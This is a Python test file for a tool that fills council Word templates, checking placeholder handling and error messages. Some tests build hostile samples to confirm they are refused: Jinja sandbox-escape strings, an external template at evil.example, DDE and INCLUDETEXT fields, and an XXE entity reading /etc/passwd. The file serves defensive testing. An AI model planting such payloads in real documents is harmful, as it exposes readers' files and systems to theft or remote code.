"""Templates as councils change them in Word, each change made to a real template with python-docx."""

import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from docx.document import Document
from docx.text.paragraph import Paragraph

from tests.conftest import MATTER, SHEET, Room
from tests.outline import read_outline
from tests.packages import change_package, put_part

NAME = "draft-response.docx"


@pytest.fixture
def answered(room: Room) -> Room:
    room.write("data/trees/recommendations.yaml", MATTER)
    room.draw("data/trees/responses.xlsx", SHEET)
    return room


def change(room: Room, edit: Callable[[Document], None]) -> None:
    path = room.path / "templates" / NAME
    document = docx.Document(str(path))
    edit(document)
    document.save(str(path))


def find(document: Document, text: str) -> Paragraph:
    """Return the first paragraph that holds the text, those in tables included."""
    cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
    paragraphs = [*document.paragraphs, *(paragraph for cell in cells for paragraph in cell.paragraphs)]
    return next(paragraph for paragraph in paragraphs if text in paragraph.text)


def replace(text: str, by: str) -> Callable[[Document], None]:
    def edit(document: Document) -> None:
        paragraph = find(document, text)
        for run in paragraph.runs[1:]:
            run.text = ""
        paragraph.runs[0].text = paragraph.text.replace(text, by)

    return edit


def built(room: Room) -> str:
    result = room.papers("build")
    assert result.exit_code == 0, result.stderr
    (name,) = room.documents()
    return read_outline(room.path / "output" / name)


def found(room: Room) -> str:
    """Return what is said of a template that cannot be used; nothing is written."""
    result = room.papers("build")
    assert result.exit_code == 1
    assert room.documents() == []
    return result.stderr


def test_wording_is_changed_in_word_alone(answered: Room) -> None:
    change(answered, replace("Agree?", "Decision"))
    outline = built(answered)
    assert "| Decision" in outline
    assert "Agree?" not in outline


def test_a_placeholder_that_word_split_over_runs(answered: Room) -> None:
    """Word parts the runs of a placeholder at every correction and spelling mark."""

    def edit(document: Document) -> None:
        for text in ("{{ topic.date }}", "{{ row.numbered }}", "{{p row.comment }}"):
            paragraph = find(document, text)
            whole = paragraph.text
            for run in paragraph.runs[1:]:
                run.text = ""
            paragraph.runs[0].text = whole[0]
            for letter in whole[1:]:
                paragraph.add_run(letter)

    change(answered, edit)
    outline = built(answered)
    assert "on 03 March 2026 concerning" in outline
    assert "| 1. That the Council plants a hundred trees." in outline
    assert "| ok" in outline


def test_the_look_of_a_placeholder_is_the_look_of_what_replaces_it(answered: Room) -> None:
    def edit(document: Document) -> None:
        find(document, "{{p row.comment }}").runs[0].italic = True

    change(answered, edit)
    assert "| __ok__" in built(answered)


def test_words_around_prose_stay(answered: Room) -> None:
    change(answered, replace("{{p row.comment }}", "Reply: {{p row.comment }} (end)"))
    assert "| Reply: ok (end)" in built(answered)


def test_columns_may_be_moved(answered: Room) -> None:
    def edit(document: Document) -> None:
        table = document.tables[1]
        for at in (0, 2):
            cells = table.rows[at]._tr.tc_lst
            cells[0].addprevious(cells[2])

    change(answered, edit)
    outline = built(answered)
    assert outline.index("| ok") < outline.index("| 1. That the Council")


def test_a_misspelt_placeholder_is_named_at_its_place(answered: Room) -> None:
    """Shown as "TPL003"."""
    change(answered, replace("{{p row.comment }}", "{{p row.coment }}"))
    (said,) = (line for line in found(answered).splitlines() if " TPL003: " in line)
    place = 'templates/draft-response.docx: error TPL003: "{{p row.coment }}" in table 2, row 3, column 3 ("Comment"): '
    assert said.startswith(place)
    assert '"coment"' in said.removeprefix(place)


def test_all_faults_of_a_template_are_found_in_one_run(answered: Room) -> None:
    change(answered, replace("{{ topic.date }}", "{{ topic.dat }} {{ nobody }} {% if topic.boddy %}x{% endif %}"))
    message = found(answered)
    assert [message.count(f'"{each}"') for each in ("dat", "nobody", "boddy")] == [1, 1, 1], message
    assert 'in the text, near "' in message


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("{{ topic.date", "there are opening brackets but no closing ones"),
        ("{{ topic.date %} x", '"{{ topic.date %}" in the text'),
        ("{# {{ topic.date #} x {{ topic.date }}", '"{{ topic.date #} x" in the text'),
        ("{{ topic.date | }}", "error TPL004"),
        ("{% if topic.date %}", '"{%p endfor %}" in the text'),
        ("{% foo %}", '"foo" cannot come after {%; use only {% for %}, {% if %} and {% set %}'),
        ("{% include 'x' %}", '"include" cannot come after {%'),
        ("{{ topic.date topic }}", 'the word "topic" does not belong there'),
        ("{{ (topic.date }}", 'a ")" is missing'),
        ("{{ topic.date|nofilter }}", "|nofilter does not exist, or is not for papers"),
        ("{{ topics[0].recommendations[0].comment }}", "this is text of several paragraphs, so write {{p ...}}"),
        ("{{ topics }}", "this is several values"),
        ("{{p topic.title }}", "this is a single line of text, so write it without the p"),
        ("{{ 'abc'.index('z') }}", """the placeholder "{{ 'abc'.index('z') }}" in the text, near "The documen"""),
        ("{{ 'x{a}'.format() }}", "cannot be filled in, because it asks for something"),
    ],
)
def test_a_placeholder_that_cannot_be_read(answered: Room, typed: str, said: str) -> None:
    """Shown as "TPL004"."""
    change(answered, replace("{{ topic.date }}", typed))
    message = found(answered)
    assert "error TPL004" in message
    assert said in message


@pytest.mark.parametrize(
    "attack",
    ["{{ ''.__class__.__mro__ }}", "{{ topics.append(1) }}", "{{ title.format.__globals__ }}",
     "{{ cycler.__init__.__globals__ }}"],
)  # fmt: skip
def test_a_template_is_a_sandbox(answered: Room, attack: str) -> None:
    change(answered, replace("{{ topic.date }}", attack))
    assert "error TPL004" in found(answered)


def test_tags_that_cut_through_a_table(answered: Room) -> None:
    change(answered, replace("{{ topic.date }}", "{% if not topic.date %}"))
    change(answered, replace("Agree?", "Agree?{% endif %}"))
    said = '"{% endif %}" in table 2, row 1, column 2: it belongs to "{% if not topic.date %}" in the text'
    assert said in found(answered)


def test_prose_in_a_header_is_refused(answered: Room) -> None:
    def edit(document: Document) -> None:
        document.sections[0].header.paragraphs[0].text = "{{p topics[0].recommendations[0].text }}"

    change(answered, edit)
    assert "in the header" in found(answered)


def test_what_a_newer_word_writes_does_no_harm(answered: Room) -> None:
    """Word 2010 and later mark ligatures and identify paragraphs in namespaces of their own."""

    def edit(parts: dict[str, bytes]) -> None:
        body = parts["word/document.xml"].replace(b"<w:document ", b'<w:document xmlns:w14="urn:w14" ', 1)
        look = b'<w:rPr><w:i/><w14:ligatures w14:val="none"/></w:rPr>'
        place = body.index(b"{{p row.comment }}")
        run = body.rindex(b"<w:r>", 0, place) + len(b"<w:r>")
        parts["word/document.xml"] = body[:run] + look + body[run:]

    change_package(answered.path / "templates" / NAME, edit)
    assert "| __ok__" in built(answered)


def test_widths_left_to_word_give_a_table_that_is_valid(answered: Room) -> None:
    def edit(parts: dict[str, bytes]) -> None:
        body = parts["word/document.xml"].decode()
        parts["word/document.xml"] = re.sub(
            r'<w:tcW w:w="\d+" w:type="dxa"/>', '<w:tcW w:w="0" w:type="auto"/>', body
        ).encode()

    change_package(answered.path / "templates" / NAME, edit)
    answered.draw(
        "data/trees/responses.xlsx", SHEET.replace("ok", "[Table: Costs]") + "[Costs]\nTree | Cost\nOak | 5\n"
    )
    assert "| | Oak" in built(answered)
    (name,) = answered.documents()
    with zipfile.ZipFile(answered.path / "output" / name) as package:
        widths = re.findall(r'w:w="(-?\d+)"', package.read("word/document.xml").decode().split("<w:sectPr")[0])
    grids = re.findall(
        r'<w:gridCol w:w="(-?\d+)"', zipfile.ZipFile(answered.path / "output" / name).read("word/document.xml").decode()
    )
    assert len(grids) >= 5
    assert all(int(width) > 0 for width in grids)
    assert not any(width.startswith("-") for width in widths)


def test_a_placeholder_that_was_deleted_fails_the_build(answered: Room) -> None:
    """The template prints no comments any more."""
    change(answered, replace("{{p row.comment }}", "See the minutes."))
    assert "templates/draft-response.docx: error TPL007: the template does not print the comments" in found(answered)


def test_a_recommendation_that_is_only_quoted_is_missed(room: Room) -> None:
    """Shown as "OUT002": the body quotes its words, the template prints the recommendation in agreed papers only."""
    body = "The Committee agreed to say: That the Council plants a hundred trees."
    report = f"report:\n  body: |\n    {body}\n\n    [Recommendation 1]\n"
    room.write("data/trees/recommendations.yaml", MATTER + report)
    assert room.papers("build").exit_code == 0
    path = room.path / "templates" / "scrutiny-report.docx"
    document = docx.Document(str(path))
    replace("{%p elif part.recommendation.withheld %}", "{%p elif part.recommendation.withheld or not agreed %}")(
        document
    )
    document.save(str(path))
    built = room.papers("build")
    assert (built.exit_code, "OUT002: recommendation 1 is missing" in built.stderr) == (1, True)


def test_a_missing_template(answered: Room) -> None:
    """Shown as "TPL001"."""
    (answered.path / "templates" / NAME).unlink()
    assert "templates/draft-response.docx: error TPL001: the template is missing" in found(answered)


def test_a_template_that_is_no_word_document(answered: Room) -> None:
    """Shown as "TPL002"."""
    answered.write(f"templates/{NAME}", "Dear all")
    assert "error TPL002: the template cannot be used: the file is not a Word document (.docx)" in found(answered)


def test_a_style_that_was_deleted(answered: Room) -> None:
    """Shown as "TPL006": all of them in one run."""
    gone = ("List Bullet", "List Number", "Hyperlink")

    def delete(document: Document) -> None:
        for name in gone:
            document.styles[name].delete()

    change(answered, delete)
    message = found(answered)
    assert "error TPL006" in message
    assert [f'the style "{name}" is missing' in message for name in gone] == [True] * 3


def add_macro(parts: dict[str, bytes]) -> None:
    put_part(parts, "vbaProject", "word/vbaProject.bin")


def add_outside_template(parts: dict[str, bytes]) -> None:
    parts["word/_rels/settings.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )


def add_include(parts: dict[str, bytes]) -> None:
    field = b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;c:/secret.docx&quot; "/></w:p>'
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field)


def add_split_include(parts: dict[str, bytes]) -> None:
    field = b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:/x</w:instrText></w:r></w:p>"
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field)


def add_lower_case_include(parts: dict[str, bytes]) -> None:
    field = b'<w:p><w:fldSimple w:instr=" includetext &quot;http://evil.example/x.docx&quot; "/></w:p>'
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field)


def add_include_split_inside_its_word(parts: dict[str, bytes]) -> None:
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
        b'<w:r><w:instrText>PICTURE "http://evil.example"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field)


def add_link_to_a_file(parts: dict[str, bytes]) -> None:
    field = b'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;file://evil.example/share&quot; "/></w:p>'
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field)


def add_embedding(parts: dict[str, bytes]) -> None:
    put_part(parts, "oleObject", "word/embeddings/oleObject1.bin")


@pytest.mark.parametrize(
    "add",
    [
        add_macro,
        add_outside_template,
        add_include,
        add_split_include,
        add_embedding,
        add_lower_case_include,
        add_include_split_inside_its_word,
        add_link_to_a_file,
    ],
)
def test_what_reaches_outside_is_refused(answered: Room, add: Callable[[dict[str, bytes]], None]) -> None:
    """Shown as "TPL005"."""
    change_package(answered.path / "templates" / NAME, add)
    assert "error TPL005: " in found(answered)


def test_a_document_type_is_refused(answered: Room) -> None:
    def edit(parts: dict[str, bytes]) -> None:
        head, _, body = parts["word/document.xml"].partition(b"?>")
        parts["word/document.xml"] = head + b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body

    change_package(answered.path / "templates" / NAME, edit)
    assert "error TPL002" in found(answered)


def test_the_shipped_templates_are_those_that_are_drawn() -> None:
    """tools/draw_templates.py is where the shipped set is changed; a council changes its own copy in Word."""
    from tools.draw_templates import TEMPLATES, draw

    drawn = draw()
    assert len(drawn) == 5
    for name, content in drawn.items():
        assert (TEMPLATES / name).read_bytes() == content, f"run tools/draw_templates.py: {name} is out of step"
